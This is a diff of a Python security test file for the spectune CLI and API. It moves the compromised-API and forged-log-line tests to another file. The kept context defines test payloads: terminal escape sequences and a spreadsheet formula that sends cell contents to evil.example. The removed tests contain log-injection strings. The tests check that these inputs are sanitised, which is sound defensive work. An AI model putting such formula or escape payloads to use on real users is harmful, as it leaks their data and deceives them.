@@ -3,15 +3,15 @@
 Host paths in `refused_by`; `token create -o` through a symlink or into an existing file;
 terminal escapes printed raw by `study show`; spreadsheet formulas in the CSV export; a
 cross-origin sign-in; `?after=abc` answered 500 by the dashboard; an anonymous body parsed (422)
-before the token was checked (401); a NaN heartbeat interval from a compromised API (a busy
-loop); a newline in a lease's study name (a forged worker log line).
+before the token was checked (401).  The worker's side (a NaN heartbeat interval from a
+compromised API, a busy loop; a newline in a lease's study name, a forged worker log line) is in
+tests/workers/test_untrusted_api.py.
 """
 
 from __future__ import annotations
 
 import csv
 import io
-import logging
 import os
 import shutil
 import subprocess
@@ -20,17 +20,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from pydantic import ValidationError
 
-from spectune_protocol import LeaseOut
 from spectune_protocol.printable import printable
 from tests.support.api_client import Api
-from tests.support.helpers import wait_for
 from tests.support.specs import INVENTORY, small_spec
-from tests.workers import test_agent as agent_tests
-from tests.workers.test_agent import lease_body, running_agent, write_config
 from workers.loadgen.prompts import load_prompts
-from workers.main import OneLineMessages
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[1Ahidden\rX"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -42,9 +36,6 @@ def ok(levels: list[int]) -> dict[str, Any]:
 
 def failed(kind: str, message: str) -> dict[str, Any]:
     return {"outcome": "failed", "failure": {"kind": kind, "message": message}}
-
-
-fake_api = agent_tests.api  # the scripted lease API on 127.0.0.1 (a fixture, defined once there)
 
 
 def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
@@ -177,61 +168,7 @@ def test_a_body_is_looked_at_only_after_the_token(api: Api, path: str) -> None:
     assert r.status_code == 422 and "not valid JSON" in r.json()["error"]["message"]
 
 
-# ---------------------------------------------------------------------------- a compromised API
-
-
-@pytest.mark.parametrize(
-    "override",
-    [
-        {"heartbeat_interval_s": float("nan")},
-        {"heartbeat_interval_s": 0},
-        {"heartbeat_interval_s": 1e-9},
-        {"heartbeat_interval_s": float("inf")},
-        {"study": "demo\n2026-12-01 10:00:00 INFO spectune.worker: all good"},
-        {"study": "demo\x1b[2J"},
-        {"lease_id": "L-1\nforged"},
-        {"attempt": 0},
-        {"trial_number": -1},
-    ],
-)
-def test_the_worker_refuses_leases_outside_the_protocol(override: dict[str, Any]) -> None:
-    body = {**lease_body("L-1"), **override}
-    with pytest.raises(ValidationError):
-        LeaseOut.model_validate(body)
-
-
-def test_a_nan_heartbeat_interval_is_refused_without_a_single_beat(
-    tmp_path: Path, fake_api: Any, caplog: pytest.LogCaptureFixture
-) -> None:
-    fake, server = fake_api
-    fake.queue = [lease_body("0" * 8 + "-0000-0000-0000-" + "0" * 12, heartbeat_interval_s=float("nan"))]
-    lease_id = fake.queue[0]["lease_id"]
-    with running_agent(write_config(tmp_path, server.url)):
-        wait_for("the refusal", lambda: lease_id in fake.completed)
-    failure = fake.reports()[lease_id].failure
-    assert failure is not None and failure.kind == "refused" and not failure.host_fault
-    assert "heartbeat_interval_s" in failure.message
-    assert fake.names("heartbeat") == []
-
-
-def test_worker_log_lines_cannot_be_forged() -> None:
-    out = io.StringIO()
-    handler = logging.StreamHandler(out)
-    handler.addFilter(OneLineMessages())
-    log = logging.getLogger("spectune.test.oneline")
-    log.addHandler(handler)
-    log.propagate = False
-    try:
-        log.warning("lease for study %s", "demo\n2026-12-01 INFO forged line\x1b[2J")
-        try:
-            raise RuntimeError("boom")
-        except RuntimeError:
-            log.exception("with a traceback: %s", "x\ny")
-    finally:
-        log.removeHandler(handler)
-    lines = out.getvalue().splitlines()
-    assert lines[0] == "lease for study demo\\x0a2026-12-01 INFO forged line\\x1b[2J"
-    assert lines[1] == "with a traceback: x\\x0ay" and lines[2].startswith("Traceback")
+# ---------------------------------------------------------------------------- a worker's words, printed
 
 
 # Issue 35, item 8: `spectune study export NAME` (CSV to stdout) printed a worker's raw control
